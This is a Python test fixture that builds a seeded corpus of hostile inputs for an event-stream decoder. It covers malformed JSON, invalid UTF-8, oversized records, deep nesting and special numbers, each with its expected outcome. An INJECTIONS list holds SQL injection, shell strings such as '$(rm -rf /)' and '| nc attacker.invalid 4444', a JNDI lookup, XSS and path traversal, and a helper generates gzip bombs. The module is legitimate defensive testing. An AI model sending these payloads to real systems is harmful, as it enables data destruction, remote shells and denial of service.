"""A seeded corpus of hostile inputs, each with the outcome the documented rules give it.

Issue 8, "Bad input": at least 1,000 hostile inputs, and for each the exact outcome: a dead-letter
reason, valid (possibly with values the sanitizer must refuse, counted as
``note:sanitized:<field>``), or a duplicate the step skips. The expected outcome is derived here
from the rules as :mod:`stream.decode`, :mod:`stream.eventtime`, :class:`stream.events.SegmentEvent`
and :mod:`stream.features` document them (checks cheapest first: size, UTF-8, JSON, object, type,
identity, required fields, field types, plausible time, future time), never by running the
decoder. Where the documents leave a case open, the outcome is pinned and a comment says why.

Identity of valid inputs: every valid hostile event has its own user (``hu-<n>``, or an injection
string made unique by a suffix), so it is that user's first event: never late, never reset, and
the features it touches are exactly the ones listed in ``sanitized``. Valid and duplicate events
are keyed by their user key, as an SDK keys them (one user's events on one partition); invalid
ones by whatever id text they carry, or ``None``.
"""

from __future__ import annotations

import gzip
import random
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from functools import lru_cache
from typing import Any

import orjson

from stream.decode import MAX_EVENT_BYTES
from stream.events import MAX_ID_LENGTH

__all__ = [
    "DUPLICATE",
    "HOSTILE_STRINGS",
    "VALID",
    "Hostile",
    "hostile_corpus",
    "mixed_stream",
]

VALID = "valid"
DUPLICATE = "duplicate"

#: Injection payloads used as ids and names. The corpus makes each use unique with a suffix.
INJECTIONS = (
    "'; DROP TABLE users; --",
    '" OR "1"="1',
    "1; DELETE FROM profiles WHERE 1=1",
    "$(rm -rf /)",
    "`reboot`",
    "; cat /etc/passwd",
    "| nc attacker.invalid 4444",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "../../../../etc/passwd",
    "%s%s%s%n",
    "{0.__class__.__mro__}",
    "${jndi:ldap://attacker.invalid/a}",
    "line\r\n[ERROR] forged log line",
    "null\x00byte",
    "\u202eevil\u202c",
    '{"$ne": null}',
    "__proto__",
)
#: 10,000 characters: the model's longest string, far beyond every id and name limit.
LONG = "A" * 10_000
LONG_WIDE = "\u00e9" * 10_000  # 20,000 bytes in UTF-8
#: What must never be found in stored state outside a valid event's own ids.
HOSTILE_STRINGS = (*INJECTIONS, LONG, LONG_WIDE)

_T0 = "2024-03-01T12:00:00.000Z"
_T0_MS = 1_709_294_400_000
_MIN_MS, _MAX_MS = 946_684_800_000, 4_102_444_800_000  # stream.eventtime's bounds
_FUTURE_MS = 5 * 60_000  # stream.eventtime.MAX_FUTURE_MS


@dataclass(frozen=True, slots=True)
class Hostile:
    """One input and what must become of it.

    ``expected`` is a :class:`~stream.deadletter.DeadLetterReason` value, :data:`VALID` or
    :data:`DUPLICATE`; ``user_key`` is set for valid and duplicate inputs; ``sanitized`` names
    the property fields whose refusal the step must note (once each).
    """

    category: str
    raw: bytes
    expected: str
    key: bytes | None = None
    user_key: str | None = None
    message_id: str | None = None
    sanitized: tuple[str, ...] = ()
    why: str = ""


def iso(ms: int) -> str:
    """``ms`` as the SDKs write it (years 1..9999)."""
    moment = datetime(1970, 1, 1, tzinfo=UTC) + timedelta(milliseconds=ms)
    # Not strftime("%Y"): it does not pad years before 1000 to four digits on every platform.
    return (
        f"{moment.year:04d}-"
        + moment.strftime("%m-%dT%H:%M:%S.")
        + f"{moment.microsecond // 1000:03d}Z"
    )


class _Corpus:
    """Builds the items; ``n`` numbers every input so ids and users never collide."""

    def __init__(self, seed: int) -> None:
        self.r = random.Random(seed)
        self.items: list[Hostile] = []
        self.n = 0

    def base(self, kind: str = "Product Viewed", **changes: Any) -> dict[str, Any]:
        """A valid track event of a fresh user (non-ASCII text, so cuts can split a character)."""
        self.n += 1
        doc: dict[str, Any] = {
            "type": "track",
            "event": kind,
            "messageId": f"h-{self.n}",
            "userId": f"hu-{self.n}",
            "timestamp": iso(_T0_MS + self.n * 1000),
            "properties": {
                "product_id": f"p-{self.n % 97}",
                "category": "Küche & Haushalt",
                "brand": "Café Zürich 東京",
                "price": round(self.r.uniform(1, 500), 2),
            },
            "context": {"locale": "de-DE", "timezone": "Europe/Berlin"},
        }
        doc.update(changes)
        return {k: v for k, v in doc.items() if v is not _DROP}

    def add(self, category: str, doc: dict[str, Any] | bytes, expected: str, **extra: Any) -> None:
        raw = doc if isinstance(doc, bytes) else orjson.dumps(doc)
        if expected != "too_large" and len(raw) > MAX_EVENT_BYTES:
            raise AssertionError(f"{category}: {len(raw)} bytes would be too_large")
        key = extra.pop("key", _DROP)
        if key is _DROP:
            key = _sdk_key(doc) if isinstance(doc, dict) else None
            if expected not in (VALID, DUPLICATE) and self.r.random() < 0.2:
                key = None  # a producer that sets no key at all
        if expected in (VALID, DUPLICATE):
            if isinstance(doc, dict):
                extra.setdefault("user_key", _user_key(doc))
                extra.setdefault("message_id", doc["messageId"])
            user_key = extra.pop("user_key")
            key = user_key.encode()
            extra["user_key"] = user_key
        self.items.append(Hostile(category, raw, expected, key, **extra))

    def valid(self, category: str, doc: dict[str, Any], *sanitized: str, why: str = "") -> None:
        self.add(category, doc, VALID, sanitized=tuple(sanitized), why=why)


_DROP: Any = object()


def _sdk_key(doc: dict[str, Any]) -> bytes | None:
    for name in ("userId", "anonymousId"):
        value = doc.get(name)
        if isinstance(value, str) and value:
            return value.encode()
    return None


def _user_key(doc: dict[str, Any]) -> str:
    user, anonymous = doc.get("userId"), doc.get("anonymousId")
    as_text = [str(v) if isinstance(v, int) else v for v in (user, anonymous)]
    return next(v for v in as_text if v)


def bytes_outcome(raw: bytes) -> str:
    """The outcome of bytes that are not JSON: too large first, then not UTF-8, else not JSON."""
    if len(raw) > MAX_EVENT_BYTES:
        return "too_large"
    try:
        raw.decode("utf-8")
    except UnicodeDecodeError:
        return "invalid_encoding"
    return "malformed_json"


def _truncated(c: _Corpus) -> None:
    """Valid events cut at random points: a strict prefix of an object is never JSON, and a cut
    inside a multi-byte character leaves bytes that are not UTF-8 (checked first)."""
    for _ in range(150):
        raw = orjson.dumps(c.base())
        cut = c.r.choice([0, 1, len(raw) - 1, c.r.randrange(len(raw))])
        c.add("truncated", raw[:cut], bytes_outcome(raw[:cut]))
    for _ in range(30):  # cut inside the é / 東 of the brand: always a split character
        raw = orjson.dumps(c.base())
        at = raw.index("東".encode()) + c.r.choice([1, 2])
        c.add("truncated", raw[:at], "invalid_encoding")


_MALFORMED = (
    b"",
    b" \n\t ",
    b"{",
    b"}",
    b'{"type": "track",}',
    b"{'type': 'track'}",
    b"{type: track}",
    b'{"type": "track" /* comment */}',
    b'{"type": "track"}{"type": "page"}',
    b'{"type": "track"} trailing',
    b'{"type" "track"}',
    b'{"a": 01}',
    b'{"a": .5}',
    b'{"a": +1}',
    b'{"a": 0x10}',
    b'{"a": "tab\tinside"}',
    b'{"a": "\\x41"}',
    b'{"a": undefined}',
    b'{"a": True}',
    b"\xef\xbb\xbf{}",  # pinned: orjson refuses a UTF-8 byte order mark (RFC 8259 lets it)
    b'{"a": "\\ud800"}',  # pinned: a lone surrogate escape is refused by orjson
    b'{"a": 1e400}',  # pinned: out of double range, refused by orjson (grammatical JSON)
    b'{"a": ' + b"9" * 400 + b"}",  # pinned: likewise
)


def _malformed(c: _Corpus) -> None:
    for raw in _MALFORMED:
        c.add("malformed", raw, "malformed_json")
    for _ in range(40):  # one byte of a valid event's syntax removed or doubled
        raw = orjson.dumps(c.base())
        at = c.r.choice(_structural(raw))
        cut = 1 if c.r.random() < 0.5 else 0
        broken = raw[:at] + raw[at + 1 :] if cut else raw[: at + 1] + raw[at:]
        c.add("malformed", broken, "malformed_json")
    for scalar in (b"null", b"true", b"false", b"0", b"-1.5", b'"text"', b"[]", b"[{}]"):
        c.add("not_an_object", scalar, "not_an_object")
    for _ in range(20):
        c.add("not_an_object", orjson.dumps([c.base(), c.base()]), "not_an_object")


def _structural(raw: bytes) -> list[int]:
    """Positions of the syntax of a minified object without escapes: quotes, and braces,
    brackets, colons and commas outside strings."""
    positions, inside = [], False
    for i, byte in enumerate(raw):
        if byte == ord('"'):
            inside = not inside
            positions.append(i)
        elif not inside and byte in b"{}[]:,":
            positions.append(i)
    return positions


def _special_numbers(c: _Corpus) -> None:
    """NaN/Infinity literals are not JSON; 1e308 and friends are, and the sanitizer refuses
    them where a feature reads them (a price on Product Viewed, a quantity on Product Added,
    revenue or total on Order Completed)."""
    for literal in (b"NaN", b"Infinity", b"-Infinity", b"nan", b"inf", b"-inf", b"+Infinity"):
        for field in ("price", "quantity", "revenue"):
            raw = orjson.dumps(c.base(properties={field: "@@"}))
            c.add("nan_inf", raw.replace(b'"@@"', literal), "malformed_json")
    huge: list[Any] = [1e308, -1e308, 1.7976931348623157e308, 2**63, 2**64 - 1, -1, -0.01]
    texts = ["NaN", "Infinity", "-inf", "1e308", "1e400", "12,50", ""]
    for value in [*huge, *texts, True, [1], {"amount": 5}]:
        props = {"product_id": "p-1", "price": value}
        c.valid("nan_inf", c.base(properties=props), "price")
        qty = {"price": 10.0, "quantity": value}
        c.valid("nan_inf", c.base("Product Added", properties=qty), "quantity")
        order = c.base("Order Completed", properties={"revenue": value, "currency": "USD"})
        c.valid("nan_inf", order, "revenue")
        total = c.base("Order Completed", properties={"total": value})
        c.valid("nan_inf", total, "total")
    for _ in range(5):  # an integer beyond 64 bits: orjson reads it as a float (1e30)
        raw = orjson.dumps(c.base(properties={"price": "@@"})).replace(b'"@@"', b"1" + b"0" * 30)
        doc = orjson.loads(raw)
        c.add(
            "nan_inf",
            raw,
            VALID,
            user_key=doc["userId"],
            message_id=doc["messageId"],
            sanitized=("price",),
        )
    for fine in (5e-324, 0, 0.0, -0.0, 999_999.99):  # accepted: finite, >= 0 (-0.0 == 0)
        c.valid("nan_inf", c.base(properties={"price": fine}))


def _oversized(c: _Corpus) -> None:
    """Sizes around the 32 KiB limit (padding in a property no feature reads), and far above."""
    for _ in range(60):
        edges = (MAX_EVENT_BYTES - 1, MAX_EVENT_BYTES, MAX_EVENT_BYTES + 1)
        below, above = (
            c.r.randint(30_000, MAX_EVENT_BYTES),
            c.r.randint(MAX_EVENT_BYTES + 1, 600_000),
        )
        target = c.r.choice([*edges, below, above])
        wide = c.r.random() < 0.3
        doc = c.base()
        filler = "é" if wide else "x"
        step = len(filler.encode())
        overhead = len(orjson.dumps({**doc, "properties": {**doc["properties"], "pad": ""}}))
        count = max(0, (target - overhead) // step)
        doc["properties"]["pad"] = filler * count
        raw = orjson.dumps(doc)
        if len(raw) > MAX_EVENT_BYTES:
            c.add("oversized", raw, "too_large")
        else:
            c.valid("oversized", doc)
    for raw in (b"\xff" * 40_000, b"[" * 40_000, b'{"NaN": NaN}' + b" " * 40_000):
        c.add("oversized", raw, "too_large", why="size is checked before anything else")


@lru_cache(maxsize=8)
def _bomb(megabytes: int, level: int) -> bytes:
    """Gzip of ``megabytes`` MiB of zeros (about 1,000:1)."""
    stream = zlib.compressobj(level, zlib.DEFLATED, 31)
    chunk = bytes(1 << 20)
    body = b"".join(stream.compress(chunk) for _ in range(megabytes))
    return body + stream.flush()


def _compressed(c: _Corpus) -> None:
    """Compressed bytes as the record value (the worker sees them undecompressed): the gzip
    magic 1f 8b and zlib's 78 9c/78 da hold bytes that are not UTF-8, so these are
    invalid_encoding, or too_large beyond 32 KiB; nothing is ever decompressed."""
    for _ in range(20):
        plain = orjson.dumps(c.base())
        c.add("gzip", gzip.compress(plain, mtime=0), "invalid_encoding")
        packed = zlib.compress(plain, c.r.choice([1, 6, 9]))
        c.add("gzip", packed, bytes_outcome(packed))
    for megabytes, level in ((1, 9), (4, 9), (10, 6), (20, 9), (31, 9), (40, 9), (64, 9)):
        bomb = _bomb(megabytes, level)
        for _ in range(4):
            c.add("gzip_bomb", bomb, bytes_outcome(bomb), why=f"{megabytes} MiB of zeros")
    for _ in range(10):  # a bomb inside a JSON string is just a (short) string
        doc = c.base()
        doc["properties"]["blob"] = _bomb(1, 9).hex()[:4000]
        c.valid("gzip", doc)


#: orjson refuses more than 1024 levels of arrays and objects (its documented limit).
_MAX_DEPTH = 1024


def _nested(c: _Corpus) -> None:
    for _ in range(60):
        depth = c.r.choice([c.r.randint(10, 1000), c.r.randint(1030, 20_000)])
        as_object = c.r.random() < 0.3
        opening, closing = (b'{"a":', b"}") if as_object else (b"[", b"]")
        inner = opening * depth + (b"1" if as_object else b"") + closing * depth
        field = c.r.choice(["properties", "context", "traits"])
        doc = c.base(**{field: {"deep": "@@"}})
        raw = orjson.dumps(doc).replace(b'"@@"', inner)
        total_depth = 2 + depth  # the event object, the field's object, then `depth` levels
        if len(raw) > MAX_EVENT_BYTES:
            c.add("deep_nesting", raw, "too_large")
        elif total_depth > _MAX_DEPTH:
            c.add("deep_nesting", raw, "malformed_json")
        else:  # pinned: within orjson's limit, nesting is just data no feature reads
            c.add("deep_nesting", raw, VALID, user_key=doc["userId"], message_id=doc["messageId"])
    for depth in (10, 1000, 1024, 1025, 5000, 16_000, 17_000):
        raw = b"[" * depth + b"]" * depth
        outcome = "not_an_object" if depth <= _MAX_DEPTH else bytes_outcome(raw)
        c.add("deep_nesting", raw, outcome)


#: Byte sequences that are never UTF-8: stray continuation, overlong forms, UTF-16 surrogates,
#: beyond U+10FFFF, bytes that never occur, a lead byte without its continuation.
_NOT_UTF8 = (
    b"\x80",
    b"\xbf",
    b"\xc0\x80",
    b"\xc1\xbf",
    b"\xe0\x80\x80",
    b"\xed\xa0\x80",
    b"\xed\xbf\xbf",
    b"\xf4\x90\x80\x80",
    b"\xf5\x80\x80\x80",
    b"\xfe",
    b"\xff",
    b"\xc3",
    b"\xe6\x9d",
    b"\xe9",  # é in Latin-1
)


def _invalid_utf8(c: _Corpus) -> None:
    for _ in range(120):
        seq = c.r.choice(_NOT_UTF8)
        field = c.r.choice(["userId", "messageId", "event", "category", "key", "end", "start"])
        doc = c.base()
        if field in ("userId", "messageId", "event"):
            doc[field] = f"x@@{field}"
        elif field == "category":
            doc["properties"]["category"] = "@@"
        raw = orjson.dumps(doc)
        if field == "key":
            raw = raw.replace(b'"properties"', b'"prop' + seq + b'erties"')
        elif field == "end":
            raw += seq
        elif field == "start":
            raw = seq + raw
        else:
            raw = raw.replace(b"@@", seq)
        c.add("invalid_utf8", raw, "invalid_encoding", key=None)
    utf16 = orjson.dumps(c.base()).decode().encode("utf-16")  # with its BOM, ff fe
    c.add("invalid_utf8", utf16, bytes_outcome(utf16))
    for _ in range(5):  # pinned: UTF-16 without BOM of ASCII JSON is UTF-8 (NULs), not JSON
        no_bom = orjson.dumps(c.base()).decode().encode("utf-16-le")
        c.add("invalid_utf8", no_bom, bytes_outcome(no_bom))


def hostile_corpus(seed: int = 8) -> list[Hostile]:
    """The whole corpus, in the order it is to be sent (a duplicate after its original)."""
    from tests.hostile_fields import add_field_cases  # it builds on this module's `_Corpus`

    c = _Corpus(seed)
    builders: tuple[Callable[[_Corpus], None], ...] = (
        _truncated,
        _malformed,
        _special_numbers,
        _oversized,
        _compressed,
        _nested,
        _invalid_utf8,
        add_field_cases,
    )
    for build in builders:
        build(c)
    _duplicates(c)
    return c.items


def _duplicates(c: _Corpus) -> None:
    """Resends of valid messageIds by the same user (skipped), and look-alikes that are not
    duplicates: dedupe is per user, and a dead-lettered event was never applied. A resend must
    decode: the decoder runs before dedupe, so a resend that is invalid is a dead letter."""
    originals = [h for h in c.items if h.expected == VALID and h.category not in _NOT_RESENT]
    for original in c.r.sample(originals, 60):
        doc = orjson.loads(original.raw)
        variant = c.r.choice(["same", "later", "changed"])
        if variant == "later" and not {"sentAt", "receivedAt", "originalTimestamp"} & set(doc):
            doc["timestamp"] = iso(_T0_MS + 10 * 86_400_000)
        elif variant == "changed":
            doc["type"], doc["event"], doc["properties"] = "track", "Order Completed", {}
        raw = orjson.dumps(doc) if variant != "same" else original.raw
        duplicate = replace(original, category="duplicate", raw=raw, expected=DUPLICATE)
        c.items.append(replace(duplicate, sanitized=()))  # skipped: nothing is read
    for original in c.r.sample(originals, 20):  # same messageId, another user: applied
        doc = {**orjson.loads(original.raw), "userId": f"hu-other-{c.n}", "properties": {}}
        c.n += 1
        c.valid("not_duplicate", doc, why="dedupe is per user")
    dead = [
        doc
        for h in c.items
        if h.category == "wrong_type" and h.expected != VALID
        for doc in [orjson.loads(h.raw)]
        if isinstance(doc.get("messageId"), str)
        and str(doc.get("userId")).startswith("hu-")
        and 0 < len(doc["messageId"]) <= MAX_ID_LENGTH
    ]
    for letter in c.r.sample(dead, 20):  # its user and messageId again, valid: applied
        doc = c.base(messageId=letter["messageId"], userId=letter["userId"])
        c.valid("not_duplicate", doc, why="a dead-lettered event was never applied")


#: Not resent: valid inputs written as bytes orjson cannot write back (deep nesting), and
#: events whose times span 2000..2100. Pinned (stream.eviction): an adapter may delete a
#: profile idle far behind its partition's watermark, and an event more than a day behind the
#: watermark then finds no idempotence records: a resend of such an event may be applied again.
_NOT_RESENT = frozenset({"deep_nesting", "nan_inf", "timestamp"})


def mixed_stream(
    corpus: Iterable[Hostile], valid_events: Iterable[dict[str, Any]], seed: int = 8
) -> Iterator[Hostile]:
    """The corpus interleaved with valid (synthetic) events, corpus order kept; every 25th
    valid event is sent again right after itself (a duplicate within the user's window)."""
    r = random.Random(seed)
    pending = list(corpus)
    for index, event in enumerate(valid_events):
        user_key = event.get("userId") or event["anonymousId"]
        item = Hostile(
            "synthetic",
            orjson.dumps(event),
            VALID,
            user_key.encode(),
            user_key,
            event["messageId"],
        )
        yield item
        if index % 25 == 24:
            yield replace(item, category="duplicate", expected=DUPLICATE, sanitized=())
        while pending and r.random() < 0.45:
            yield pending.pop(0)
    yield from pending
